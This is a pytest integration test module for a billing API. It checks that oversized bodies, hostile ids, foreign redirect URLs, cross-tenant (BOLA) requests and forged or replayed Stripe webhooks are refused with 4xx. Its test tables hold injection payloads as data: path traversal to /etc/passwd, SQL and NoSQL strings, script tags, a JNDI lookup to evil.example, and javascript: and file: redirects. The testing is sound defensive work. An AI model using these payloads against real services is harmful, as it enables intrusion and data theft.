"""Hostile input over real HTTP: oversized bodies, strange ids, foreign redirects, BOLA, forged
webhooks. Every case must end in a clear 4xx (never a 5xx) and leave the tables as they were.

Projects 501 (the attacker's key) and 502 (the victim, with a grant, an audit entry and a
customer) are this module's own. Routes come from template.yaml, so a new route that is not
covered here fails ``test_every_authenticated_route_of_the_template_is_covered``.
"""

from __future__ import annotations

import http.client
import json
import os
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field, replace
from typing import Any
from urllib.parse import quote, urlencode, urlsplit

import pytest
import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from billing.domain.webhook_signature import signature_header
from billing_devstack.config import REPO_ROOT, STANDIN_WEBHOOK_SECRET
from billing_devstack.launcher import StackProcess, wait_until
from billing_devstack.template import ApiRoute, load_template
from tests.integration.test_checkout_over_http import register_price
from tests.support import hostile, stripe_events

pytestmark = pytest.mark.integration

PROJECT, FOREIGN = "501", "502"
ORIGIN, FOREIGN_ORIGIN = "https://app.example.com", "https://shop502.example.com"
PRICE, FOREIGN_PRICE = "price_hostile_501", "price_hostile_502"
USER, VICTIM = "user_hostile", "victim_502"
WEBHOOK = "/api/v1/webhooks/stripe"
API_GATEWAY_LIMIT = 10 * 1024 * 1024
WEBHOOK_LIMIT = 131_072  # Settings.webhook_max_body_bytes' default
EVENT_PREFIX = "evt_hostile_"

ROUTES = load_template(REPO_ROOT / "template.yaml", "http://unused").routes
AUTHENTICATED = [route for route in ROUTES if route.uses_authorizer]
POST_ROUTES = [route for route in ROUTES if route.method == "POST"]


def route_id(route: ApiRoute) -> str:
    return f"{route.method} {route.path}"


# ------------------------------------------------------------------ requests of each route
@dataclass(frozen=True)
class Call:
    """One request: method, path, query and JSON body (or raw bytes)."""

    method: str
    path: str
    query: dict[str, str] = field(default_factory=dict)
    body: Any = None

    def send(self, stack: StackProcess, key: str | None, **headers: str) -> requests.Response:
        if key is not None:
            headers["X-API-Key"] = key
        data = None
        if self.body is not None:
            data = self.body if isinstance(self.body, bytes) else json.dumps(self.body).encode()
            headers.setdefault("Content-Type", "application/json")
        # Lone surrogates go out as the bytes they would be (invalid UTF-8), not as an error.
        query = urlencode(self.query, quote_via=quote, errors="surrogatepass")
        return requests.request(
            self.method,
            f"{stack.url}{self.path}" + (f"?{query}" if query else ""),
            data=data,
            headers=headers,
            timeout=60,
        )


def valid_call(route: ApiRoute, project: str, user: str = USER) -> Call:
    """A plausible request of ``route`` for ``project`` (every authenticated route has one)."""
    origin, price = (ORIGIN, PRICE) if project == PROJECT else (FOREIGN_ORIGIN, FOREIGN_PRICE)
    people = {"user_id": user, "project_id": project}
    calls: dict[tuple[str, str], Call] = {
        ("POST", "/api/v1/checkout/session"): Call(
            "POST",
            route.path,
            body={
                **people,
                "price_id": price,
                "mode": "subscription",
                "success_url": f"{origin}/ok",
                "cancel_url": f"{origin}/cancel",
            },
        ),
        ("POST", "/api/v1/portal/session"): Call(
            "POST", route.path, body={**people, "return_url": f"{origin}/account"}
        ),
        ("GET", "/api/v1/portal/eligibility"): Call("GET", route.path, query=people),
        ("GET", "/api/v1/entitlements"): Call("GET", route.path, query=people),
        ("GET", "/api/v1/entitlements/check"): Call(
            "GET", route.path, query={**people, "feature_code": "pro"}
        ),
        ("POST", "/api/v1/admin/grant"): Call(
            "POST",
            route.path,
            body={**people, "feature_code": "pro", "granted_by": "support", "reason": "test"},
        ),
        ("POST", "/api/v1/admin/revoke"): Call(
            "POST",
            route.path,
            body={**people, "feature_code": "pro", "revoked_by": "support", "reason": "test"},
        ),
        ("GET", "/api/v1/admin/audit"): Call("GET", route.path, query=people),
        ("POST", "/api/v1/usage"): Call(
            "POST",
            route.path,
            body={**people, "feature_code": "pro", "quantity": 1, "idempotency_key": "hostile_1"},
        ),
        ("GET", "/api/v1/metrics/project/{project_id}/subscriptions"): Call(
            "GET", route.path.replace("{project_id}", project)
        ),
        ("GET", "/api/v1/metrics/project/{project_id}/revenue"): Call(
            "GET", route.path.replace("{project_id}", project)
        ),
        ("GET", "/api/v1/entitlements/history"): Call(
            "GET", route.path, query={**people, "at": "2026-01-01T00:00:00Z"}
        ),
        ("POST", "/api/v1/entitlements/token"): Call(
            "POST", route.path, body={**people, "audience": "https://api.test"}
        ),
    }
    return calls[(route.method, route.path)]


def with_field(call: Call, name: str, value: Any, route: ApiRoute) -> Call:
    """``call`` with ``name`` set to ``value`` wherever the route takes it."""
    if "{" + name + "}" in route.path:
        text = value if isinstance(value, str) else json.dumps(value)
        return Call(
            call.method,
            route.path.replace("{" + name + "}", quote(text, safe="", errors="surrogatepass")),
        )
    if call.method == "GET":
        return Call(call.method, call.path, {**call.query, name: value})
    return Call(call.method, call.path, call.query, {**call.body, name: value})


def fields_of(route: ApiRoute) -> set[str]:
    call = valid_call(route, PROJECT)
    names = set(call.query) | set(call.body or {})
    return names | ({"project_id"} if "{project_id}" in route.path else set())


# ------------------------------------------------------------------ what is stored
MINE = (f"{PROJECT}#", f"{FOREIGN}#")


def _mine(table: str, item: dict[str, Any]) -> bool:
    def text(name: str) -> str:
        return str(item.get(name, {}).get("S", ""))

    if table == "WebhookEventsTable":
        return text("event_id").startswith(EVENT_PREFIX)
    if text("project_id") in (PROJECT, FOREIGN):
        return True
    return text("project_user").startswith(MINE)


TABLES = (
    "ProjectsTable",
    "PricesTable",
    "EntitlementsTable",
    "AuditTable",
    "CustomersTable",
    "StripeObjectsTable",
    "WebhookEventsTable",
    "UsageCountersTable",
    "UsageRecordsTable",
)


def stored(stack: StackProcess) -> dict[str, list[str]]:
    """Every item of the tables requests can write that belongs to projects 501/502 (or to this
    module's webhook events), as canonical JSON: equal snapshots mean nothing was written."""
    dynamodb = stack.dynamodb()
    snapshot: dict[str, list[str]] = {}
    for table in TABLES:
        items: list[str] = []
        for page in dynamodb.get_paginator("scan").paginate(TableName=table):
            items += [
                json.dumps(item, sort_keys=True)
                for item in page["Items"]
                if _mine(table, dict(item))
            ]
        snapshot[table] = sorted(items)
    return snapshot


def send_all(
    stack: StackProcess, key: str | None, calls: Iterable[Call]
) -> list[tuple[Call, requests.Response]]:
    """Send the calls (four at a time: the stack's concurrency) and pair them with answers."""
    listed = list(calls)
    with ThreadPoolExecutor(max_workers=4) as pool:
        answers = list(pool.map(lambda call: call.send(stack, key), listed))
    return list(zip(listed, answers, strict=True))


def named(response: requests.Response, name: str) -> bool:
    """Whether the error body names the field ``name``."""
    body = response.json()
    fields = [str(error.get("field")) for error in body.get("errors", [])]
    return name in fields or name in str(body.get("message", ""))


def problems(
    answers: list[tuple[Call, requests.Response]],
    expect: Callable[[requests.Response], bool],
) -> list[str]:
    return [
        f"{call.method} {call.path} query={call.query!r} body={call.body!r:.300}"
        f" -> {response.status_code} {response.text[:300]}"
        for call, response in answers
        if not expect(response)
    ]


# ------------------------------------------------------------------ fixture
@dataclass(frozen=True)
class Tenants:
    stack: StackProcess
    key: str
    foreign_key: str


@pytest.fixture(scope="module")
def tenants(stack: StackProcess) -> Tenants:
    """Projects 501 and 502 with an allowed origin, a price and a key each; 502's victim has a
    manual grant (entitlement + audit entry) and a Stripe customer, so there is data to steal."""
    keys = {}
    for project, origin, price in (
        (PROJECT, ORIGIN, PRICE),
        (FOREIGN, FOREIGN_ORIGIN, FOREIGN_PRICE),
    ):
        stack.admin(
            "project", "create", "--id", project, "--name", f"hostile_{project}", "--origin", origin
        )
        register_price(stack, project, price, recurring=True)
        keys[project] = stack.admin("app", "create", "--project", project, "--name", "hostile")[
            "api_key"
        ]
    found = Tenants(stack, keys[PROJECT], keys[FOREIGN])
    by_path = {route.path: route for route in AUTHENTICATED}
    for path in ("/api/v1/admin/grant", "/api/v1/checkout/session"):
        response = valid_call(by_path[path], FOREIGN, VICTIM).send(stack, found.foreign_key)
        assert response.status_code in (200, 201), response.text
    return found


# ------------------------------------------------------------------ coverage
def test_every_authenticated_route_of_the_template_is_covered(tenants: Tenants) -> None:
    """Every route behind the authorizer in template.yaml has a request here, and that request,
    sent with the project's own key, passes tenancy and validation (so the hostile variants
    below differ from it in the hostile field only)."""
    for route in AUTHENTICATED:
        call = valid_call(route, PROJECT)  # KeyError: a route this module does not know
        if route.path.endswith(("/grant", "/revoke", "/checkout/session", "/usage")):
            continue  # these write: their hostile variants are checked against the tables
        response = call.send(tenants.stack, tenants.key)
        assert response.status_code in (200, 404), (route_id(route), response.text)
    assert {r.path for r in POST_ROUTES} >= {WEBHOOK, "/api/v1/admin/grant"}


# ------------------------------------------------------------------ oversized bodies
@pytest.mark.parametrize("route", POST_ROUTES, ids=route_id)
def test_a_body_over_api_gateways_10_mib_is_413_on_every_post_route(
    tenants: Tenants, route: ApiRoute
) -> None:
    """A body one byte over API Gateway's 10 MiB is refused with 413 before any handler runs,
    on every POST route of the template; nothing is stored."""
    stack = tenants.stack
    before = stored(stack)
    body = b'{"pad":"' + b"x" * (API_GATEWAY_LIMIT - 9) + b'"}'
    assert len(body) == API_GATEWAY_LIMIT + 1
    response = Call("POST", route.path, body=body).send(stack, tenants.key)
    assert response.status_code == 413, response.text[:300]
    assert response.json() == {"message": "Request Too Long"}
    assert stored(stack) == before


LIMITS: dict[str, dict[str, Any]] = {
    "/api/v1/checkout/session": {
        "user_id": "u" * 129,
        "price_id": "price_" + "x" * 250,
        "success_url": f"{ORIGIN}/" + "x" * (2049 - len(ORIGIN) - 1),
        "cancel_url": f"{ORIGIN}/" + "x" * (2049 - len(ORIGIN) - 1),
        "quantity": 101,
        "trial_days": 731,
    },
    "/api/v1/portal/session": {
        "user_id": "u" * 129,
        "return_url": f"{ORIGIN}/" + "x" * (2049 - len(ORIGIN) - 1),
    },
    "/api/v1/admin/grant": {
        "user_id": "u" * 129,
        "feature_code": "f" * 65,
        "granted_by": "g" * 129,
        "reason": "r" * 501,
        "quantity": 10**15 + 1,
    },
    "/api/v1/admin/revoke": {
        "user_id": "u" * 129,
        "feature_code": "f" * 65,
        "revoked_by": "g" * 129,
        "reason": "r" * 501,
    },
    "/api/v1/entitlements/token": {
        "user_id": "u" * 129,
        "audience": "a" * 201,
        "ttl_seconds": 3601,
    },
    "/api/v1/usage": {
        "user_id": "u" * 129,
        "feature_code": "f" * 65,
        "quantity": 10**9 + 1,
        "idempotency_key": "k" * 256,
    },
}


@pytest.mark.parametrize("route", [r for r in POST_ROUTES if r.path != WEBHOOK], ids=route_id)
def test_each_field_just_over_the_services_limit_is_422_naming_it(
    tenants: Tenants, route: ApiRoute
) -> None:
    """Every bounded field of every authenticated POST route, one unit over its limit (length
    or value), is refused with 422 naming that field; nothing is stored."""
    stack = tenants.stack
    before = stored(stack)
    base = valid_call(route, PROJECT)
    calls = {
        name: with_field(base, name, value, route) for name, value in LIMITS[route.path].items()
    }
    answers = dict(zip(calls, send_all(stack, tenants.key, calls.values()), strict=True))
    wrong = [
        f"{name}: {response.status_code} {response.text[:200]}"
        for name, (_, response) in answers.items()
        if response.status_code != 422 or not named(response, name)
    ]
    assert wrong == []
    assert stored(stack) == before


def test_a_webhook_body_just_over_the_receivers_limit_is_413_even_when_signed(
    tenants: Tenants,
) -> None:
    """A correctly signed webhook body one byte over the receiver's 128 KiB is 413 and never
    reaches the queue (no WebhookEvents record appears for it)."""
    stack = tenants.stack
    event = json.loads(signed_event("oversized"))
    event["pad"] = ""
    raw = json.dumps(event).encode()
    event["pad"] = "x" * (WEBHOOK_LIMIT + 1 - len(raw))
    body = json.dumps(event).encode()
    assert len(body) == WEBHOOK_LIMIT + 1
    response = deliver(stack, body, signature_header(body, STANDIN_WEBHOOK_SECRET, now()))
    assert response.status_code == 413, response.text
    assert_never_recorded(stack, {f"{EVENT_PREFIX}oversized"})


# ------------------------------------------------------------------ hostile strings
HOSTILE_STRINGS: dict[str, str] = {
    "unicode": "ユーザー42",
    "emoji": "user_\U0001f600",
    "rtl-override": "user\u202e42",
    "zero-width": "user\u200b42",
    "nul": "user\x0042",
    "newline-inside": "us\ner",
    "ansi-escape": "user\x1b[31m",
    "lone-surrogate": "user\ud800",
    "fullwidth-digits": "\uff15\uff10\uff11",
    "very-long": "u" * 20_000,
    "path-traversal": "../../etc/passwd",
    "encoded-traversal": "..%2F..%2Fetc%2Fpasswd",
    "sql": "' OR '1'='1' --",
    "nosql": '{"$ne": null}',
    "key-separator": "1#other_user",
    "foreign-key-separator": f"{FOREIGN}#{VICTIM}",
    "pipe-separator": "user|admin",
    "html": "<script>alert(1)</script>",
    "jndi": "${jndi:ldap://evil.example/a}",
    "whitespace-only": "   ",
    "empty": "",
}
HOSTILE_PROJECT_IDS: dict[str, Any] = {
    **{k: v for k, v in HOSTILE_STRINGS.items() if k != "fullwidth-digits"},
    "fullwidth-501": "\uff15\uff10\uff11",
    "hash-suffix": f"{PROJECT}#{FOREIGN}",
    "pipe-suffix": f"{PROJECT}|{FOREIGN}",
    "sql-suffix": f"{PROJECT} OR 1=1",
    "traversal-to-foreign": f"../{FOREIGN}",
    "nul-suffix": f"{PROJECT}\x00",
    "negative": f"-{PROJECT}",
    "exponent": "5.01e2",
    "hex": "0x1f5",
    "zero": "0",
    "too-many-digits": "9" * 30,
}
HOSTILE_BODY_PROJECT_IDS: dict[str, Any] = {
    **HOSTILE_PROJECT_IDS,
    "null": None,
    "true": True,
    "float": 501.5,
    "list": [int(PROJECT)],
    "object": {"$ne": 0},
    "huge-int": 2**70,
}


def hostile_values(route: ApiRoute, name: str) -> dict[str, Any]:
    if name != "project_id":
        return HOSTILE_STRINGS
    return HOSTILE_BODY_PROJECT_IDS if route.method == "POST" else HOSTILE_PROJECT_IDS


# (route path, field): the answer is a 404 naming the field instead of 422 (a string the
# service looks up rather than validates: an unknown price is just not registered).
LOOKED_UP = {("/api/v1/checkout/session", "price_id"): "price"}
GATEWAY_REFUSALS = (
    "Missing Authentication Token",
    "User is not authorized to access this resource",
)

HOSTILE_CASES = [
    pytest.param(route, name, id=f"{route_id(route)} {name}")
    for route in AUTHENTICATED
    for name in sorted(fields_of(route) & {"user_id", "project_id", "price_id", "feature_code"})
]


@pytest.mark.parametrize(("route", "name"), HOSTILE_CASES)
def test_hostile_ids_are_refused_naming_the_field_and_store_nothing(
    tenants: Tenants, route: ApiRoute, name: str
) -> None:
    """Unicode, control characters, NUL, lone surrogates, very long strings, path traversal,
    SQL/NoSQL strings and the `#`/`|` separators of the DynamoDB keys, in every id field of
    every authenticated route (body, query or path): a 4xx naming the field (422; 404 for a
    price id, which is looked up; in a path, API Gateway's own 403 when the value leaves no
    route to match), never a 5xx, and the tables are unchanged."""
    stack = tenants.stack
    before = stored(stack)
    base = valid_call(route, PROJECT)
    values = hostile_values(route, name)
    calls = [with_field(base, name, value, route) for value in values.values()]
    answers = send_all(stack, tenants.key, calls)
    word = LOOKED_UP.get((route.path, name))
    in_path = "{" + name + "}" in route.path

    def refused(response: requests.Response) -> bool:
        if word is not None and response.status_code == 404:
            return word in response.json()["message"]
        if in_path and response.status_code == 403:
            # A value holding "/" (or nothing) makes a path no route serves; a newline one
            # the authorizer's policy does not cover: API Gateway's own 403, no handler runs.
            return response.json()["message"] in GATEWAY_REFUSALS
        return response.status_code == 422 and named(response, name)

    assert problems(answers, refused) == []
    assert stored(stack) == before


# ------------------------------------------------------------------ redirects
FOREIGN_REDIRECTS = {
    "foreign-origin": "https://evil.example/ok",
    "other-projects-origin": f"{FOREIGN_ORIGIN}/ok",
    "suffix-domain": "https://app.example.com.evil.example/ok",
    "userinfo-allowed-at-evil": "https://app.example.com@evil.example/ok",
    "userinfo-evil-at-allowed": "https://evil.example@app.example.com/ok",
    "backslash-userinfo": "https://app.example.com\\@evil.example/ok",
    "protocol-relative": "//evil.example/ok",
    "scheme-relative-path": "/\\evil.example/ok",
    "javascript": "javascript:alert(document.cookie)",
    "javascript-padded": "  javascript:alert(1)//https://app.example.com/",
    "data": "data:text/html,<script>alert(1)</script>",
    "http-downgrade": "http://app.example.com/ok",
    "other-port": "https://app.example.com:8443/ok",
    "upper-case-foreign": "HTTPS://EVIL.EXAMPLE/",
    "single-slash": "https:/evil.example/ok",
    "no-host": "https:///ok",
    "punycode-lookalike": "https://xn--pp-example-k7a.com/ok",
    "file": "file:///etc/passwd",
    "port-out-of-range": "https://app.example.com:99999/ok",
    "port-zero": "https://app.example.com:0/",
    "port-zeros": "https://app.example.com:000/ok",
    "port-not-a-number": "https://app.example.com:abc/ok",
    "unclosed-ipv6": "https://[::1/ok",
    "fullwidth-hash-in-host": "https://app.example.com\uff03@evil.example/ok",
    "empty-userinfo": "https://@app.example.com/ok",
    "tab-after-host": "https://app.example.com\t/ok",
    "space-as-host": "https:// /",
    "space-in-host": "https://app.exa mple.com/",
    "trailing-dot": "https://app.example.com./ok",
}
REDIRECT_FIELDS = [
    ("/api/v1/checkout/session", "success_url"),
    ("/api/v1/checkout/session", "cancel_url"),
    ("/api/v1/portal/session", "return_url"),
]


@pytest.mark.parametrize(("path", "name"), REDIRECT_FIELDS, ids=[f for _, f in REDIRECT_FIELDS])
def test_redirects_off_the_projects_origins_are_422_and_store_nothing(
    tenants: Tenants, path: str, name: str
) -> None:
    """success_url, cancel_url and return_url to foreign origins, another project's origin,
    javascript:/data:/file: URLs, userinfo tricks, protocol-relative and host-less URLs, http
    downgrades, other ports and URLs Python's urlsplit refuses (bad port, unclosed IPv6, a host
    NFKC would change): 422 naming the field; no customer or session is stored."""
    stack = tenants.stack
    route = next(r for r in AUTHENTICATED if r.path == path)
    base = valid_call(route, PROJECT, user=f"user_{uuid.uuid4().hex[:8]}")
    before = stored(stack)
    calls = [with_field(base, name, url, route) for url in FOREIGN_REDIRECTS.values()]
    answers = send_all(stack, tenants.key, calls)
    assert problems(answers, lambda r: r.status_code == 422 and named(r, name)) == []
    assert stored(stack) == before
    # The same request with the project's own origin goes through (so the test can fail).
    allowed = with_field(base, name, f"{ORIGIN}/fine?next=%2F%2Fevil.example", route)
    assert allowed.send(stack, tenants.key).status_code in (200, 404)
    default_port = with_field(base, name, f"{ORIGIN}:443/fine", route)  # the same origin
    assert default_port.send(stack, tenants.key).status_code in (200, 404)


# ------------------------------------------------------------------ BOLA
FOREIGN_ID_FORMS: dict[str, Any] = {
    "int": int(FOREIGN),
    "string": FOREIGN,
    "padded": f" {FOREIGN} ",
    "leading-zeros": f"000{FOREIGN}",
}


@pytest.mark.parametrize("route", AUTHENTICATED, ids=route_id)
def test_another_projects_ids_with_my_key_are_403_and_nothing_is_read_or_written(
    tenants: Tenants, route: ApiRoute
) -> None:
    """BOLA: project 501's key, on every authenticated route of the template, with project
    502's request (its project id in every form that means 502, its victim user, its price,
    its origin): 403 "Project ID does not match" and nothing else in the body (nothing of 502's
    read), and the tables unchanged (nothing written). (A path takes digits only: the padded
    form there is a 422 of its own, test_a_path_project_id_other_than_digits_is_422_naming_it.)"""
    stack = tenants.stack
    before = stored(stack)
    victim_call = valid_call(route, FOREIGN, VICTIM)
    in_path = "{project_id}" in route.path
    calls = [
        with_field(victim_call, "project_id", form, route)
        for name, form in FOREIGN_ID_FORMS.items()
        if not (in_path and name == "padded")
    ]
    answers = send_all(stack, tenants.key, calls)
    expected = {"message": "Project ID does not match"}
    assert problems(answers, lambda r: r.status_code == 403 and r.json() == expected) == []
    assert stored(stack) == before


@pytest.mark.parametrize(
    "route", [r for r in AUTHENTICATED if r.method == "GET" and "{" not in r.path], ids=route_id
)
def test_a_duplicated_project_id_query_never_reads_the_other_project(
    tenants: Tenants, route: ApiRoute
) -> None:
    """`?project_id=502&project_id=501` (and the reverse) with 501's key: 403, whichever comes
    first (every value of a repeated parameter is checked)."""
    stack = tenants.stack
    for order in ((FOREIGN, PROJECT), (PROJECT, FOREIGN)):
        query = "&".join(f"project_id={p}" for p in order)
        extra = "&feature_code=pro" if route.path.endswith("/check") else ""
        response = requests.get(
            f"{stack.url}{route.path}?user_id={VICTIM}&{query}{extra}",
            headers={"X-API-Key": tenants.key},
            timeout=30,
        )
        assert response.status_code == 403, response.text
        assert response.json() == {"message": "Project ID does not match"}


def test_the_victims_data_is_there_for_its_own_key(tenants: Tenants) -> None:
    """The control of the BOLA tests: 502's own key reads its victim's grant, so an empty or
    refused answer to 501's key is isolation, not an empty table."""
    by_path = {route.path: route for route in AUTHENTICATED}
    response = valid_call(by_path["/api/v1/entitlements"], FOREIGN, VICTIM).send(
        tenants.stack, tenants.foreign_key
    )
    assert response.status_code == 200
    assert [e["feature_code"] for e in response.json()["entitlements"]] == ["pro"]
    eligibility = valid_call(by_path["/api/v1/portal/eligibility"], FOREIGN, VICTIM)
    assert eligibility.send(tenants.stack, tenants.foreign_key).json()["eligible"] is True


# ------------------------------------------------------------------ webhooks
def now() -> int:
    return int(time.time())


def signed_event(tag: str) -> str:
    subscription = stripe_events.subscription(
        f"sub_hostile_{tag}", metadata={"project_id": "999999", "user_id": "nobody"}
    )
    return stripe_events.event(
        "customer.subscription.updated", subscription, now(), event_id=f"{EVENT_PREFIX}{tag}"
    )


def deliver(stack: StackProcess, body: bytes, *signatures: str) -> requests.Response:
    """POST a delivery with zero, one or several Stripe-Signature header lines."""
    split = urlsplit(stack.url)
    connection = http.client.HTTPConnection(split.hostname or "127.0.0.1", split.port, timeout=60)
    try:
        connection.putrequest("POST", WEBHOOK)
        connection.putheader("Content-Type", "application/json")
        connection.putheader("Content-Length", str(len(body)))
        for signature in signatures:
            connection.putheader("Stripe-Signature", signature)
        connection.endheaders(body)
        answer = connection.getresponse()
        response = requests.Response()
        response.status_code = answer.status
        response._content = answer.read()
        return response
    finally:
        connection.close()


def recorded_events(stack: StackProcess) -> set[str]:
    return {json.loads(item)["event_id"]["S"] for item in stored(stack)["WebhookEventsTable"]}


def assert_never_recorded(stack: StackProcess, event_ids: set[str]) -> None:
    """Deliver a correctly signed marker event, wait until the consumer recorded it (so anything
    enqueued before it had its chance too), then check that none of ``event_ids`` was."""
    marker = signed_event(f"marker_{uuid.uuid4().hex[:8]}")
    raw = marker.encode()
    response = deliver(stack, raw, signature_header(raw, STANDIN_WEBHOOK_SECRET, now()))
    assert response.status_code == 200, response.text
    marker_id = json.loads(marker)["id"]
    assert wait_until(lambda: marker_id in recorded_events(stack), 30), "the marker never arrived"
    assert recorded_events(stack) & event_ids == set()


def test_forged_malformed_and_replayed_webhooks_are_400_and_nothing_is_enqueued(
    tenants: Tenants,
) -> None:
    """Missing, empty, garbled (non-ASCII v1, non-ASCII or 5000-digit t) and duplicated
    Stripe-Signature headers, a wrong secret, a
    signature of another body, a correctly signed event replayed 10 minutes later (or dated
    10 minutes ahead, or with a fresh `t=` appended), random bodies: each 400 "invalid
    signature", and none of their events is ever recorded by the consumer, while a correctly
    signed event right after is accepted and recorded."""
    stack = tenants.stack
    secret = STANDIN_WEBHOOK_SECRET
    event = signed_event("forged").encode()
    other = signed_event("other").encode()
    t = now()
    good = signature_header(event, secret, t)
    v1 = good.split("v1=")[1]
    stale = signature_header(event, secret, t - 600)
    cases: dict[str, tuple[bytes, tuple[str, ...]]] = {
        "no header": (event, ()),
        "empty header": (event, ("",)),
        "garbage": (event, ("garbage",)),
        "no v1": (event, (f"t={t}",)),
        "no t": (event, (f"v1={v1}",)),
        "t not a number": (event, (f"t=abc,v1={v1}",)),
        "empty v1": (event, (f"t={t},v1=",)),
        "v0 only": (event, (f"t={t},v0={v1}",)),
        "truncated v1": (event, (f"t={t},v1={v1[:-1]}",)),
        "non-ascii v1": (event, (f"t={t},v1={v1[:-1]}é",)),
        "superscript t": (event, (f"t=\u00b2,v1={v1}",)),
        "5000-digit t": (event, (f"t={'9' * 5000},v1={v1}",)),
        "wrong secret": (event, (signature_header(event, "whsec_wrong", t),)),
        "secret as prefix": (event, (signature_header(event, secret + "x", t),)),
        "another body's signature": (event, (signature_header(other, secret, t),)),
        "body changed after signing": (event.replace(b"nobody", b"somebody"), (good,)),
        "replayed 10 minutes later": (event, (stale,)),
        "dated 10 minutes ahead": (event, (signature_header(event, secret, t + 600),)),
        "stale with a fresh t appended": (event, (f"{stale},t={t}",)),
        "two bad headers": (event, ("garbage", signature_header(event, "whsec_wrong", t))),
        "two headers, one stale": (event, ("garbage", stale)),
        "random body, no header": (os.urandom(512), ()),
        "random body, another's signature": (os.urandom(512), (good,)),
        "empty body": (b"", (good,)),
    }
    before = stored(stack)
    wrong = []
    for name, (body, signatures) in cases.items():
        response = deliver(stack, body, *signatures)
        ok = response.status_code == 400 and response.json()["message"].startswith(
            "invalid signature"
        )
        if not ok:
            wrong.append(f"{name}: {response.status_code} {response.text[:200]}")
    assert wrong == []
    assert stored(stack) == before
    assert_never_recorded(stack, {f"{EVENT_PREFIX}forged", f"{EVENT_PREFIX}other"})


@pytest.mark.parametrize(
    "body",
    [
        b"<xml>not json</xml>",
        b"[1, 2, 3]",
        b'{"object": "event"}',
        b'{"id": "evt_hostile_x", "object": "event", "type": "t", "created": -1, "data": {}}',
        "{}".encode("utf-16"),
        b"\xff\xfe\x00garbage",
        b"[" * 100_000,
    ],
    ids=["xml", "array", "no id", "negative created", "utf-16", "not utf-8", "deep nesting"],
)
def test_correctly_signed_bodies_that_are_not_events_are_400(tenants: Tenants, body: bytes) -> None:
    """A body signed with the right secret but not a Stripe event (not JSON, not UTF-8, an
    array, missing fields, nested 100k deep) is 400, not a 5xx, and is not enqueued."""
    stack = tenants.stack
    before = stored(stack)
    response = deliver(stack, body, signature_header(body, STANDIN_WEBHOOK_SECRET, now()))
    assert response.status_code == 400, response.text[:300]
    assert stored(stack) == before


def test_a_correctly_signed_event_is_accepted_and_recorded_once(tenants: Tenants) -> None:
    """The control of the webhook tests: a correctly signed event is 200 and recorded by the
    consumer; the same delivery again (inside the tolerance) is 200 and still one record."""
    stack = tenants.stack
    body = signed_event(f"good_{uuid.uuid4().hex[:8]}").encode()
    header = signature_header(body, STANDIN_WEBHOOK_SECRET, now())
    event_id = json.loads(body)["id"]
    for _ in range(2):
        response = deliver(stack, body, header)
        assert response.status_code == 200, response.text
        assert response.json() == {"received": True, "id": event_id}
    assert wait_until(lambda: event_id in recorded_events(stack), 30)
    assert sorted(recorded_events(stack)).count(event_id) == 1


def _outcome(stack: StackProcess, event_id: str) -> str | None:
    item = stack.dynamodb().get_item(
        TableName="WebhookEventsTable", Key={"event_id": {"S": event_id}}, ConsistentRead=True
    )
    return str(item["Item"]["outcome"]["S"]) if "Item" in item else None


def test_signed_events_not_in_stripes_shape_are_recorded_malformed_and_grant_nothing(
    tenants: Tenants,
) -> None:
    """An outside probe's signed events (items: "x", lines: 5, a subscription with nothing but
    an id and its owner) crashed the consumer into the DLQ, or counted a status-less
    subscription as incomplete in the metrics. Now each is answered 200, recorded `malformed`
    once by the consumer, and the project's user gets nothing."""
    stack = tenants.stack
    owner = {"project_id": PROJECT, "user_id": f"malformed_{uuid.uuid4().hex[:8]}"}
    sent: dict[str, dict[str, Any]] = {
        "customer.subscription.created": {"id": "sub_w2", "items": "x", "metadata": owner},
        "invoice.paid": {"id": "in_q4", "lines": 5, "metadata": owner},
        "customer.subscription.updated": {"id": "sub_bare", "metadata": owner},
    }
    event_ids = []
    for event_type, obj in sent.items():
        body = stripe_events.event(event_type, obj, now()).encode()
        response = deliver(stack, body, signature_header(body, STANDIN_WEBHOOK_SECRET, now()))
        assert response.status_code == 200, response.text
        event_ids.append(json.loads(body)["id"])
    assert wait_until(lambda: all(_outcome(stack, e) for e in event_ids), 30), event_ids
    assert [_outcome(stack, e) for e in event_ids] == ["malformed"] * len(event_ids)
    read = requests.get(
        f"{stack.url}/api/v1/entitlements",
        params=owner,
        headers={"X-API-Key": tenants.key},
        timeout=30,
    )
    assert read.status_code == 200, read.text
    assert read.json()["entitlements"] == []


# ------------------------------------------------------------------ issue #19, case by case
@dataclass(frozen=True)
class RawCall:
    """A request as bytes on the wire: repeated query parameters, any headers, any body."""

    method: str
    path: str
    query: list[tuple[str, str]] = field(default_factory=list)
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes | None = None

    def send(self, stack: StackProcess, key: str | None) -> requests.Response:
        headers = dict(self.headers)
        if key is not None:
            headers["X-API-Key"] = key
        query = urlencode(self.query, quote_via=quote, errors="surrogatepass")
        return requests.request(
            self.method,
            f"{stack.url}{self.path}" + (f"?{query}" if query else ""),
            data=self.body,
            headers=headers,
            timeout=60,
        )


JSON_HEADERS = {"Content-Type": "application/json"}
DEEP = b"[" * 100_000
GRANT, REVOKE, AUDIT = "/api/v1/admin/grant", "/api/v1/admin/revoke", "/api/v1/admin/audit"
CHECKOUT, PORTAL = "/api/v1/checkout/session", "/api/v1/portal/session"
REVENUE = f"/api/v1/metrics/project/{PROJECT}/revenue"


def body_of(path: str, **changes: Any) -> bytes:
    """The valid body of a POST route of project 501 with ``changes``."""
    route = next(r for r in AUTHENTICATED if r.path == path)
    return json.dumps({**valid_call(route, PROJECT).body, **changes}).encode()


MULTIPART = (
    b'--xyz\r\nContent-Disposition: form-data; name="project_id"\r\n\r\n502\r\n'
    b'--xyz\r\nContent-Disposition: form-data; name="user_id"\r\n\r\nvictim_502\r\n--xyz--\r\n'
)
GETS_WITHOUT_PROJECT_QUERY = [
    ("GET", "/api/v1/entitlements", [("user_id", USER)]),
    ("GET", "/api/v1/portal/eligibility", [("user_id", USER)]),
    ("GET", AUDIT, [("user_id", USER)]),
    ("GET", REVENUE, []),
]
ISSUE_CASES: dict[str, tuple[RawCall, int, str | None]] = {
    **{
        f"deep nesting, POST {route.path}": (
            RawCall("POST", route.path, headers=JSON_HEADERS, body=DEEP),
            400 if route.path == WEBHOOK else 422,
            None if route.path == WEBHOOK else "body",
        )
        for route in POST_ROUTES
    },
    **{
        f"deep nesting, GET {path} without project_id": (
            RawCall(method, path, query, JSON_HEADERS, DEEP),
            422,
